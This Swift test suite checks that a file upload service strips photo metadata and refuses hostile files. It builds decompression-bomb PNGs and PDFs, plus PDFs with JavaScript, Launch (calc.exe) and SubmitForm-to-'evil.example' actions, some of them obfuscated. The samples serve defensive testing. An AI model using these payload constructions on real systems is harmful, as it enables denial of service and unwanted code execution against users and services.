// SPDX-License-Identifier: Apache-2.0

import Foundation
import Subprocess
import Testing
import Values

@testable import Documents

#if canImport(System)
    import System
#else
    import SystemPackage
#endif

/// Files as hostile people send them, read by the programs that the service has them read by.
@Suite(.timeLimit(.minutes(10)))
struct UploadExaminationTests {
    // MARK: Files

    /// Pictures as Pillow writes them: `photo.jpg` with a maker and a position, `photo.png`, `noise.pdf` and such.
    private static let pictures = Task { () async throws -> [String: [UInt8]] in
        let program = """
            import struct, zlib
            from PIL import Image
            image = Image.effect_noise((800, 600), 60).convert("RGB")
            exif = Image.Exif()
            exif[0x0112] = 6
            exif[0x010f] = "Secretmaker"
            place = exif.get_ifd(0x8825)
            place[1], place[2] = "S", (7.0, 18.0, 0.0)
            image.save("photo.jpg", exif=exif, quality=85)
            assert b"Secretmaker" in open("photo.jpg", "rb").read()
            image.convert("RGBA").save("photo.png")
            image.save("noise.pdf", "PDF")
            chunk = lambda name, data: struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
            def png(width, height, data):
                head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
                return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")
            open("bomb.png", "wb").write(png(65000, 65000, b"\\0" * 1000000))
            open("wide.png", "wb").write(png(1000000, 1, b"\\0" * 3000001))
            open("text.png", "wb").write(png(2, 2, b"\\0" * 14)[:-12] + chunk(b"zTXt", b"a\\0\\0" + zlib.compress(b"x" * 300000000)) + chunk(b"IEND", b""))
            """
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("titipan-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: false)
        defer { try? FileManager.default.removeItem(at: folder) }
        let made = try await Subprocess.run(
            .path(FilePath(PressTools().python)), arguments: ["-I", "-c", program],
            workingDirectory: FilePath(folder.path), output: .string(limit: 1 << 20), error: .combinedWithOutput)
        #expect(made.terminationStatus.isSuccess, "\(made.standardOutput)")
        var files: [String: [UInt8]] = [:]
        for name in try FileManager.default.contentsOfDirectory(atPath: folder.path) {
            files[name] = Array(try Data(contentsOf: folder.appendingPathComponent(name)))
        }
        return files
    }

    private static func picture(_ name: String) async throws -> [UInt8] {
        try #require(try await pictures.value[name], "\(name)")
    }

    /// A PDF of one empty page with these objects from 4 on, and these entries in its catalogue.
    private static func pdf(_ more: [String] = [], catalogue: String = "", page: String = "") -> [UInt8] {
        let objects =
            [
                "<< /Type /Catalog /Pages 2 0 R \(catalogue) >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] \(page) >>",
            ] + more
        var text = "%PDF-1.7\n"
        var places: [Int] = []
        for (index, object) in objects.enumerated() {
            places.append(text.utf8.count)
            text += "\(index + 1) 0 obj\n\(object)\nendobj\n"
        }
        let table = text.utf8.count
        text += "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
        for place in places {
            let digits = "\(place)"
            text += String(repeating: "0", count: 10 - digits.count) + digits + " 00000 n \n"
        }
        text += "trailer << /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(table)\n%%EOF\n"
        return Array(text.utf8)
    }

    private static func qpdf(_ file: [UInt8], _ arguments: [String]) async throws -> [UInt8] {
        try await PressFixture.withFile(file) { folder in
            _ = try await PressFixture.output(of: "qpdf", arguments, in: folder)
            return Array(try Data(contentsOf: folder.appendingPathComponent("made.pdf")))
        }
    }

    private func fault(_ file: [UInt8]) async throws -> UploadFault? {
        switch try await PressFixture.press().examine(file) {
        case .accepted: nil
        case .refused(let fault): fault
        }
    }

    private func accepted(_ file: [UInt8]) async throws -> ExaminedFile {
        guard case .accepted(let examined) = try await PressFixture.press().examine(file) else {
            throw PressError.badContent(field: "file", why: "was refused")
        }
        return examined
    }

    // MARK: What is taken

    @Test func `a photograph is kept upright and without maker or position`() async throws {
        let photo = try await Self.picture("photo.jpg")
        let kept = try await accepted(photo)
        #expect(kept.format == .jpeg && kept.width == 600 && kept.height == 800 && kept.pages == nil)
        #expect(position(of: "Secretmaker", in: photo) != nil && position(of: "Secretmaker", in: kept.bytes) == nil)
        #expect(position(of: "Exif", in: kept.bytes) == nil)
        #expect(kept.pictures.count == 2 && kept.pictures.allSatisfy { $0.starts(with: [0xFF, 0xD8, 0xFF]) })
        #expect(kept.pictures[0].count < kept.bytes.count)
        let png = try await accepted(try await Self.picture("photo.png"))
        #expect(png.format == .png && png.width == 800 && png.bytes.starts(with: [0x89, 0x50, 0x4E, 0x47]))
    }

    @Test func `what stands behind a picture's end is not kept`() async throws {
        let tail = "PK\u{3}\u{4}<script>alert(1)</script>"
        let kept = try await accepted(try await Self.picture("photo.jpg") + Array(tail.utf8))
        #expect(position(of: "<script>", in: kept.bytes) == nil)
    }

    @Test func `a document is kept byte for byte, with a picture of each of its first pages`() async throws {
        let scan = try await Self.picture("noise.pdf")
        let kept = try await accepted(scan)
        #expect(kept.format == .pdf && kept.bytes == scan && kept.pages == 1 && kept.pictures.count == 2)
        #expect(try await fault(Self.pdf(catalogue: "/OpenAction [3 0 R /Fit]")) == nil)
        let pages = Array(repeating: "document.pdf", count: 12)
        let long = try await Self.qpdf(Self.pdf(), ["--empty", "--pages"] + pages + ["--", "made.pdf"])
        let many = try await accepted(long)
        #expect(many.pages == 12 && many.pictures.count == 1 + UploadLimits.picturedPages)
    }

    @Test func `a process of its own finds the same`() async throws {
        let photo = try await Self.picture("photo.jpg")
        let tests = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe")
        let service = tests.split(separator: "/").dropLast().reduce("") { "\($0)/\($1)" } + "/titipan-service"
        let press = ChildPress(program: service, arguments: ["press"], tools: PressTools(), office: .temanggung)
        #expect(try await press.examine(photo) == (try await PressFixture.press().examine(photo)))
        #expect(try await press.examine(Array("nonsense".utf8)) == .refused(.unknownFormat))
    }

    // MARK: What is not

    @Test func `nothing, too much, and what is none of the formats`() async throws {
        #expect(try await fault([]) == .empty)
        #expect(try await fault([UInt8](repeating: 0x25, count: UploadLimits.fileBytes + 1)) == .tooLarge)
        for text in [
            "<html><script>alert(1)</script>%PDF-1.4", "GIF89a", "PK\u{3}\u{4}", "MZ", "<svg xmlns='x'/>", " %PDF-1.7",
        ] {
            #expect(try await fault(Array(text.utf8)) == .unknownFormat, "\(text)")
        }
    }

    @Test(arguments: ["photo.jpg", "photo.png", "noise.pdf"], [10, 50, 97])
    func `a file that is cut off is damaged`(_ name: String, _ percent: Int) async throws {
        let whole = try await Self.picture(name)
        let count = whole.count * percent / 100
        #expect(try await fault(Array(whole.prefix(count))) == .damaged)
    }

    @Test func `first bytes alone make no picture and no document`() async throws {
        let noise = (0..<5_000).map { UInt8(truncatingIfNeeded: $0 &* 167 &+ 13) }
        #expect(try await fault([0xFF, 0xD8, 0xFF, 0xE0] + noise) == .damaged)
        #expect(try await fault([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + noise) == .damaged)
        #expect(try await fault(Array("%PDF-1.7\n".utf8) + noise) == .damaged)
        #expect(try await fault(Array("%PDF-1.7\n%%EOF\n".utf8)) == .damaged)
    }

    @Test func `a picture of huge dimensions is never decoded`() async throws {
        #expect(try await fault(try await Self.picture("bomb.png")) == .tooManyPixels)
        #expect(try await fault(try await Self.picture("wide.png")) == .tooManyPixels)
        #expect(try await fault(try await Self.picture("text.png")) == .damaged, "300 MB of text in 300 kB")
    }

    @Test func `a document with something behind its end, or before its beginning, is damaged`() async throws {
        #expect(try await fault(Self.pdf() + Array("<script>alert(1)</script>".utf8)) == .damaged)
        #expect(try await fault(Array("MZ".utf8) + Self.pdf()) == .unknownFormat)
    }

    @Test func `a document that does something is refused, however it is written`() async throws {
        let open = "/OpenAction 4 0 R"
        let actions = [
            "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
            "<< /Type /Action /S /Launch /F (calc.exe) >>", "<< /S /SubmitForm /F (https://evil.example) >>",
            "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", "<< /S /ImportData /F (x.fdf) >>",
        ]
        for action in actions {
            let file = Self.pdf([action], catalogue: open)
            #expect(try await fault(file) == .activeContent, "\(action)")
            let hidden = try await Self.qpdf(file, ["--object-streams=generate", "document.pdf", "made.pdf"])
            #expect(try await fault(hidden) == .activeContent, "in an object stream: \(action)")
        }
        #expect(try await fault(Self.pdf(["<< /XFA (x) >>"], catalogue: "/AcroForm 4 0 R")) == .activeContent)
        let annotation = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"
        #expect(try await fault(Self.pdf([annotation], page: "/Annots [4 0 R]")) == .activeContent)
        let attached = "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"
        #expect(try await fault(Self.pdf([attached], page: "/Annots [4 0 R]")) == .embeddedFiles)
        let inside = try await Self.qpdf(
            Self.pdf(), ["document.pdf", "--add-attachment", "document.pdf", "--", "made.pdf"])
        #expect(try await fault(inside) == .embeddedFiles)
    }

    @Test func `a locked document is refused, whether it opens without a password or not`() async throws {
        for user in ["", "secret"] {
            let locked = try await Self.qpdf(
                Self.pdf(), ["--encrypt", user, "owner", "256", "--", "document.pdf", "made.pdf"])
            #expect(try await fault(locked) == .encrypted)
        }
    }

    @Test func `a document of more pages than anybody scans is refused`() async throws {
        let pages = Array(repeating: "document.pdf", count: UploadLimits.pages + 1)
        let long = try await Self.qpdf(Self.pdf(), ["--empty", "--pages"] + pages + ["--", "made.pdf"])
        #expect(try await fault(long) == .tooManyPages)
    }

    @Test func `a document whose page unpacks to gigabytes ends by itself`() async throws {
        // Of a gigabyte of zeros, deflated twice, a kilobyte is left.
        let program =
            "import sys, zlib; a = zlib.compress(b'0' * (1 << 30), 9); sys.stdout.buffer.write(zlib.compress(a, 9))"
        let packed = try await Subprocess.run(
            .path(FilePath(PressTools().python)), arguments: ["-I", "-c", program], output: .bytes(limit: 1 << 20),
            error: .discarded
        ).standardOutput
        let latin = String(packed.map { Character(Unicode.Scalar($0)) })
        let text = "<< /Length \(packed.count) /Filter [/FlateDecode /FlateDecode] >>\nstream\n\(latin)\nendstream"
        var file: [UInt8] = []
        for scalar in String(decoding: Self.pdf([text], page: "/Contents 4 0 R"), as: UTF8.self).unicodeScalars {
            file.append(UInt8(truncatingIfNeeded: scalar.value))
        }
        let started = ContinuousClock.now
        let found = try await fault(file)
        #expect(found == .damaged || found == .tooCostly)
        #expect(ContinuousClock.now - started < .seconds(120))
    }
}
